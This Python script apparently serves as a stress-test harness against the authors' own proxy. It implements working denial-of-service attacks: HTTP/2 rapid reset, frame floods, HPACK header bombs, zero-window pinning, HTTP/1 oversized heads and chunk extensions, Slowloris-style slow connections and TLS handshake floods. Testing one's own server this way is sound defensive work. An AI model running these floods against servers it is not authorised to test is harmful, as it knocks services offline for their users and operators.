# SPDX-License-Identifier: Apache-2.0
"""An attacker that keeps to a rate: floods, drips and crowds, against a proxy of ours.

    flood.py ATTACK ADDRESS PORT SECONDS [SERVER_NAME ANCHORS.pem CHAIN.pem]

With the last three by mutual TLS. Prints, as JSON, how many connections it made, how many the other
side ended meanwhile, and how many GOAWAYs came.
"""

import itertools
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import h2_frames as h2  # noqa: E402

_TICK = 0.02  # seconds between two bursts
_GET = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")]
_POST = [(":method", "POST"), *_GET[1:]]
_HEAD = b"POST / HTTP/1.1\r\nHost: a\r\n"
_CHUNKED = _HEAD + b"Transfer-Encoding: chunked\r\n\r\n"


def _u32(value):
    return struct.pack(">I", value)


def _streams(make):
    """Bursts of 20 times what `make(stream)` gives."""
    numbers = itertools.count(1, 2)
    return (b"".join(make(next(numbers)) for _ in range(20)) for _ in itertools.count())


def _again(frames, before=b""):
    """`frames` for ever, behind `before`."""
    return itertools.chain([before], itertools.repeat(frames))


def _references(name, value):
    """Header blocks that name one field 16,000 times, by a byte each."""
    # The first entry of the dynamic table is number 62.
    learn = h2.frame(h2.HEADERS, 5, 1, h2.block(_GET) + h2.literal(name, value, indexed=True))
    bomb = h2.block(_GET) + bytes([0x80 | 62]) * 16000
    numbers = itertools.count(3, 2)
    return itertools.chain([learn], (
        b"".join(h2.frame(h2.HEADERS, 5, next(numbers), bomb) for _ in range(3))
        for _ in itertools.count()))


def _pinned():
    """A hundred answers for which there is no room, and then a byte of it at a time."""
    asked = b"".join(h2.request(_GET, stream=stream) for stream in range(1, 201, 2))
    drip = b"".join(h2.frame(h2.WINDOW_UPDATE, 0, stream, _u32(1)) for stream in range(1, 201, 50))
    return itertools.chain([h2.frame(h2.SETTINGS, 0, 0, b"\0\x04" + _u32(0)) + asked],
                           (drip if turn % 25 == 0 else b"" for turn in itertools.count()))


# What one connection sends after the other, a burst every tick. HTTP/2, behind the preface.
BURSTS = {
    "ping": lambda: _again(h2.frame(h2.PING, 0, 0, b"12345678") * 100),
    "settings": lambda: _again(h2.frame(h2.SETTINGS, 0, 0) * 50),
    "empty data": lambda: _again(h2.frame(h2.DATA, 0, 1) * 100,
                                 h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.block(_POST))),
    "priority": lambda: _again(h2.frame(h2.PRIORITY, 0, 3, _u32(0) + b"\x10") * 100),
    "window update": lambda: _again(h2.frame(h2.WINDOW_UPDATE, 0, 0, _u32(1)) * 100),
    "rapid reset": lambda: _streams(lambda stream: h2.request(_GET, stream=stream) + h2.frame(
        h2.RST_STREAM, 0, stream, _u32(8))),
    "provoked reset": lambda: _streams(lambda stream: h2.request(_GET, stream=stream) + h2.frame(
        h2.WINDOW_UPDATE, 0, stream, _u32(0x7FFFFFFF))),
    "belied length": lambda: _streams(lambda stream: h2.request(
        _POST + [("content-length", "1")], b"more than one", stream=stream)),
    "continuation": lambda: _again(h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"x", b"y")) * 50,
                                   h2.frame(h2.HEADERS, 0, 1, h2.block(_GET))),
    "header bomb": lambda: _references(b"x", b"y" * 3000),
    "near-empty bomb": lambda: _references(b"x", b""),
    "crumb bomb": lambda: _references(b"cookie", b""),
    "header count": lambda: _streams(lambda stream: h2.request(
        _GET + [(f"x{number}", "") for number in range(200)], stream=stream)),
    "pinned answers": _pinned,
}
# HTTP/1, and what is none.
PLAIN_BURSTS = {
    "fields": lambda: _again(_HEAD + b"x: y\r\n" * 200 + b"\r\n"),
    "long head": lambda: _again(_HEAD + b"x: " + b"y" * 100000),
    "chunk extensions": lambda: _again(b"1;" + b"e" * 20000, _CHUNKED),
    "trailers": lambda: _again(b"x: " + b"y" * 20000 + b"\r\n", _CHUNKED + b"0\r\n"),
    "noise for a ClientHello": lambda: _again(b"\x16\x03\x01\x02\x00" + b"\x01\xff" * 400),
}
# (connections at once, how one begins, what it sends five times a second)
CROWDS = {
    "slow heads": (200, b"GET / HTTP/1.1\r\nHost: a\r\n", b"x: y\r\n"),
    "slow bodies": (200, _HEAD + b"Content-Length: 1000000\r\n\r\n", b"x"),
    "idle connections": (500, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b""),
    "half-open handshakes": (300, b"\x16", b""),
    "dripped ClientHellos": (200, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\0"),
}
HANDSHAKES = "handshakes"


class Attacker:
    def __init__(self, address, secure):
        self._address = address
        self._context, self._name = secure
        self.made = self.ended = self.goaways = 0

    def connect(self):
        connection = socket.create_connection(self._address, 5)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self._context:
            connection = self._context.wrap_socket(connection, server_hostname=self._name)
        connection.settimeout(0.2)
        self.made += 1
        return connection

    def came(self, connection):
        """What has come; None once it has ended."""
        if not select.select([connection], [], [], 0)[0]:
            return b""
        try:
            return connection.recv(1 << 16) or None
        except TimeoutError:
            return b""
        except OSError:
            return None

    def send(self, connection, data):
        """Whether the connection still stands. One that takes nothing is given up."""
        try:
            connection.sendall(data)
            return True
        except OSError:
            return False

    def burst(self, make, opening, until):
        """One connection, to its end."""
        with self.connect() as connection:
            got = b""
            self.send(connection, opening)
            for data in make():
                data_in = self.came(connection)
                stands = data_in is not None and self.send(connection, data)
                got = (got + (data_in or b""))[:1 << 16]
                if not stands or time.monotonic() > until:
                    self.ended += not stands
                    break
                time.sleep(_TICK)
            while stands is False and (data_in := self.came(connection)):
                got += data_in
            self.goaways += any(kind == h2.GOAWAY for kind, *_ in h2.read_frames(got))

    def crowd(self, size, opening, drip, until):
        crowd = []
        while time.monotonic() < until:
            while len(crowd) < size and time.monotonic() < until and self.made < 5 * size:
                crowd.append(self.connect())
                self.send(crowd[-1], opening)
                if len(crowd) % 20 == 0:
                    time.sleep(_TICK)
            for connection in list(crowd):
                if self.came(connection) is None or (drip and not self.send(connection, drip)):
                    self.ended += 1
                    connection.close()
                    crowd.remove(connection)
            time.sleep(0.2)
        for connection in crowd:
            connection.close()

    def handshakes(self, until):
        while time.monotonic() < until:
            try:
                with socket.create_connection(self._address, 5) as raw:
                    raw.settimeout(5)
                    self.made += 1
                    self._context.wrap_socket(raw, server_hostname=self._name).close()
            except OSError:
                self.ended += 1
            time.sleep(_TICK)


def main():
    attack, address, port, seconds = sys.argv[1:5]
    secure = (None, None)
    if len(sys.argv) > 5:
        name, anchors, chain = sys.argv[5:8]
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(anchors)
        context.load_cert_chain(chain)
        secure = context, name
    attacker = Attacker((address, int(port)), secure)
    until = time.monotonic() + float(seconds)
    if attack == HANDSHAKES:
        attacker.handshakes(until)
    elif attack in CROWDS:
        attacker.crowd(*CROWDS[attack], until)
    else:
        opening = b"" if attack in PLAIN_BURSTS else h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0)
        while time.monotonic() < until:
            attacker.burst({**BURSTS, **PLAIN_BURSTS}[attack], opening, until)
    print(json.dumps({"made": attacker.made, "ended": attacker.ended,
                      "goaways": attacker.goaways}))


if __name__ == "__main__":
    main()
